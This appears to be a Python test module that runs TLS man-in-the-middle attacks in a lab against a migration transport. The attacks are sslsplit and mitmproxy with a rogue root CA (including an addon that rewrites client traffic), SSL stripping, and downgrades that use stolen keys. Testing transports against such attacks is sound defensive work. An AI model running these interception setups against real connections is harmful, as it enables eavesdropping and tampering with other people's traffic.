"""Attacks on TLS by the tools that exist for them, and by downgrades."""

from __future__ import annotations

import shutil
import socket
import ssl
import subprocess
from functools import partial
from pathlib import Path

from tests.attack.doors import Door, Speech
from tests.attack.places import INSTEAD, PLANT, LabError, receiving_script
from tests.attack.places import until as wait_until
from tests.attack.scene import Attack, Scene, Verdict, judged
from tests.attack.segment import ATTACKER, SOURCE
from tests.attack.tools import redirected
from tests.attack.transports import Means, NotApplicableError, Plain

_TOOL_PORT = 8443

_ADDON = f"""\
def tcp_message(flow):
    message = flow.messages[-1]
    if message.from_client and {PLANT!r} in message.content:
        message.content = message.content.replace({PLANT!r}, {INSTEAD!r})
        print("changed", message.content.count({INSTEAD!r}), flush=True)
"""


def _need_tls(scene: Scene) -> None:
    if not scene.transport.uses_tls:
        raise NotApplicableError("no TLS")


def _behind(scene: Scene, words: list[str], traces: tuple[Path, ...]) -> Verdict:
    """A migration through a tool on the attacker's host, and what is in the files that it wrote."""
    lab = scene.lab
    with lab.running(ATTACKER, words, ready=lab.listens(ATTACKER, _TOOL_PORT)) as program, redirected(lab.segment, scene.transport.port, _TOOL_PORT):
        facts = scene.migrate()
    logs = [program.said(), *(trace.read_text(errors="replace") for trace in traces if trace.exists())]
    if not any(logs):
        raise LabError(f"nothing came to {words[0]}")
    facts.read = any(PLANT.decode() in log for log in logs) or "changed" in program.said()
    return judged(facts)


def sslsplit(scene: Scene) -> Verdict:
    """Sslsplit makes a certificate of the rogue root for whoever is called, and shows one of that root to him."""
    _need_tls(scene)
    certificates = scene.lab.certificates
    folder = scene.lab.subfolder("sslsplit")
    content, connections = folder / "content", folder / "connections"
    root, client = certificates.rogue_ca, certificates.get(SOURCE, "rogue")
    host, port = scene.target
    words = ["sslsplit", "-D", "-u", "root", "-k", root.key, "-c", root.certificate, "-a", client.certificate, "-b", client.key]
    words += ["-L", content, "-l", connections, "ssl", "0.0.0.0", str(_TOOL_PORT), host, str(port)]  # noqa: S104 - the attacker's namespace
    return _behind(scene, [str(word) for word in words], (content, connections))


def mitmproxy(scene: Scene) -> Verdict:
    """Mitmproxy does the same, and rewrites what it reads: Xensploit within TLS."""
    _need_tls(scene)
    folder = scene.lab.subfolder("mitmproxy")
    shutil.copy(scene.lab.certificates.rogue_ca.both, folder / "mitmproxy-ca.pem")
    addon = folder / "xensploit.py"
    addon.write_text(_ADDON)
    host, port = scene.target
    options = {
        "confdir": folder,
        "ssl_insecure": "true",
        "client_certs": scene.lab.certificates.get(SOURCE, "rogue").both,
        "tcp_hosts": ".*",
        "rawtcp": "true",
    }
    words = ["mitmdump", "--mode", f"reverse:https://{host}:{port}", "--listen-port", str(_TOOL_PORT), "-s", str(addon)]
    for name, value in options.items():
        words += ["--set", f"{name}={value}"]
    return _behind(scene, words, ())


def strip(scene: Scene) -> Verdict:
    """He answers without any encryption, and hopes that the source goes on."""
    plain = Plain(scene.lab)
    plain.port = scene.transport.port
    with plain.impostor(ATTACKER, scene.xen, Means.OWN, scene.loot), redirected(scene.lab.segment, plain.port, plain.port):
        return judged(scene.migrate())


def downgrade(scene: Scene, *, speech: Speech) -> Verdict:
    """He has stolen the destination's TLS key, so that his certificate is no obstacle, and speaks TLS in one way only."""
    _need_tls(scene)
    pem = scene.transport.stolen_identity()
    script = receiving_script(scene.xen, scene.lab.subfolder("door"), scene.loot, before=scene.transport.before_impostor())
    port = scene.transport.port
    with Door(scene.lab.segment, port, pem, speech, script) as door, redirected(scene.lab.segment, port, port):
        others = 0
        if speech.group:
            others = _any_client(scene, door)
        facts = scene.migrate()
    if door.tried == others:
        raise LabError("no connection came to the attacker")
    verdict = judged(facts)
    if not verdict.falls and door.heard:
        verdict.falls = True
        verdict.words = f"{door.heard} bytes said to him"
    return verdict


def _any_client(scene: Scene, door: Door) -> int:
    """The control where socat is none, for it offers P-256 alone: a client with OpenSSL's defaults goes along. Returns its connections."""
    host, port = scene.target
    words = ["timeout", "5", "openssl", "s_client", "-quiet", "-connect", f"{host}:{port}"]
    with scene.lab.segment.inside(SOURCE):
        subprocess.run(words, input=b"", capture_output=True, check=False)
    if not door.spoken:
        raise LabError(f"no client speaks so: {door.failures}")
    wait_until(lambda: not door.busy, "the door free again")
    scene.reset()
    return door.tried


def source_downgrade(scene: Scene) -> Verdict:
    """He calls the destination with TLS 1.2 alone and the source's stolen key."""
    _need_tls(scene)
    context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
    context.check_hostname = False
    context.verify_mode = ssl.CERT_NONE
    context.maximum_version = ssl.TLSVersion.TLSv1_2
    pem = scene.lab.certificates.get(SOURCE, "site")
    context.load_cert_chain(pem.certificate, pem.key)
    with scene.lab.segment.inside(ATTACKER):
        sock = socket.create_connection(scene.target, timeout=10)
    spoken = ""
    try:
        with sock, context.wrap_socket(sock) as tls:
            spoken = str(tls.version())
    except (ssl.SSLError, OSError):
        pass
    facts = scene.look(None, lambda: "")
    return Verdict(falls=bool(spoken), words=f"speaks {spoken}" if spoken else "refuses it", facts=facts)


_TLS = ("tls-server", "tls-mutual", "pinned")


def _downgrade(key: str, title: str, speech: Speech, *, falls: tuple[str, ...] = _TLS) -> Attack:
    return Attack(key, title, partial(downgrade, speech=speech), falls=falls, alarm=())


ROWS = (
    Attack("sslsplit", "rogue root that both trust, `sslsplit`", sslsplit, falls=("tls-server", "tls-mutual"), alarm=()),
    Attack("mitmproxy", "the same, `mitmproxy`, memory rewritten", mitmproxy, falls=("tls-server", "tls-mutual"), alarm=("xensecure",)),
    Attack("strip", "SSL strip: a plaintext answer", strip, falls=("plain",), alarm=()),
    _downgrade("tls12", "downgrade: TLS 1.2 alone, stolen TLS key", Speech(version=ssl.TLSVersion.TLSv1_2)),
    _downgrade("group", "downgrade: group secp521r1 alone (control: `openssl s_client`)", Speech(group="secp521r1"), falls=()),
    _downgrade("alpn", "another ALPN, stolen TLS key", Speech(alpn="http/1.1")),
    Attack("call-tls12", "calls with TLS 1.2 alone", source_downgrade, way="", falls=_TLS, alarm=()),
)
